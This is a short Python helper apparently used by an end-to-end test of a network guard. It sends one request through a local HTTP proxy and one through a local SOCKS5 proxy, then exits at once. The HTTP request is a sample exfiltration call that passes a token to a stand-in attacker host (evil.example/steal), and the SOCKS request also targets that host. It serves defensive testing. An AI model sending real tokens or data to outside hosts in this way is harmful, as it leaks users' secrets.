"""Run by tests/test_e2e_guard.py. Sends one request through each door without
waiting for any answer, and exits at once: the connections are still in the
doors' backlogs when the helper ends (at the start of a run, before the
broker's loop has loaded)."""
import os
import socket
import sys
http = socket.create_connection(("127.0.0.1", 3128))
http.sendall(b"GET http://evil.example/steal?token=t0ken HTTP/1.1\r\nHost: evil.example\r\n\r\n")
socks = socket.create_connection(("127.0.0.1", 1080))
name = b"evil.example"
socks.sendall(b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name + (443).to_bytes(2, "big"))
os._exit(int(sys.argv[1]))
